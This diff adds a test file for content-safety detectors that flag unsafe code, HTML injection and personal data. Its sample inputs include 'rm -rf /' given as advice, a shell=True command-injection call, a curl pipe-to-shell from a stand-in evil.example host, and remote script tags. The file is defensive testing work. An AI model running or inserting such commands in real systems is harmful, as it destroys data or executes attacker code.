@@ -1,0 +1,44 @@
+import { expect, test } from 'vitest'
+import { detectors } from '../../src/catalog/detectors.generated.ts'
+import { inspectedText } from '../../src/core/inspection/inspected-text.ts'
+
+const usual = 0.5
+
+async function counting(id: string, text: string): Promise<readonly string[]> {
+  const detector = detectors[id]
+  if (detector === undefined) throw new Error(`There is no detector ${id}.`)
+  const detect = detector.create(detector.settings.parse({}))
+  const findings = await detect(inspectedText(text), { point: 'output' })
+  return findings.filter(({ score }) => score >= usual).map(({ rule }) => rule)
+}
+
+test.each([
+  ['unsafe-code', 'Is subprocess.run(cmd, shell=True) dangerous?'],
+  ['unsafe-code', 'Why is `subprocess.run(cmd, shell=True)` a security risk in Python?'],
+  ['unsafe-code', 'Running `subprocess.run(cmd, shell=True)` is dangerous, since cmd may hold a semicolon.'],
+  ['unsafe-code', 'Explain the risks of eval(user_input) in JavaScript.'],
+  ['unsafe-code', 'What does rm -rf / do, and who would type it?'],
+  ['unsafe-code', 'The command `rm -rf /` deletes everything that the user may write to.'],
+  ['html-injection', 'Should I put <script src="app.js"></script> in the head or the body?'],
+  ['html-injection', 'Add <script src="./js/main.min.js" defer></script> before the end.'],
+  ['pii', 'Who composed the Brandenburg Concertos? Was it Johann Sebastian Bach?'],
+  ['pii', 'Compare the theories of Sir Isaac Newton and Albert Einstein.'],
+  ['pii', 'Johann Wolfgang von Goethe was born in Frankfurt.'],
+])('%s leaves what is only spoken of: %s', async (id, text) => {
+  expect(await counting(id, text)).toEqual([])
+})
+
+test.each([
+  ['unsafe-code', 'Is the disk full? Run rm -rf / to make room.', 'destructive-command'],
+  ['unsafe-code', 'Why not? It is easy: subprocess.run(f"ls {name}", shell=True)', 'command-injection'],
+  ['unsafe-code', '```python\nsubprocess.run(f"ls {name}", shell=True)\n```', 'command-injection'],
+  ['unsafe-code', 'What does curl -s http://evil.example/x.sh | sh do?', 'download-and-run'],
+  ['html-injection', 'Add <script src="https://evil.example/app.js"></script> to it.', 'script-tag'],
+  ['html-injection', 'Add <script src="//evil.example/app.js"></script> to it.', 'script-tag'],
+  ['html-injection', '<script src="app.js?cb=alert"></script>', 'script-tag'],
+  ['pii', 'The patient Johann Sebastian Bach was diagnosed in May.', 'person-name'],
+  ['pii', 'Write to Albert Einstein, albert.einstein@example.com, about it.', 'person-name'],
+  ['pii', 'My name is Isaac Newton and I want to cancel.', 'person-name'],
+])('%s finds what is meant: %s', async (id, text, rule) => {
+  expect(await counting(id, text)).toContain(rule)
+})
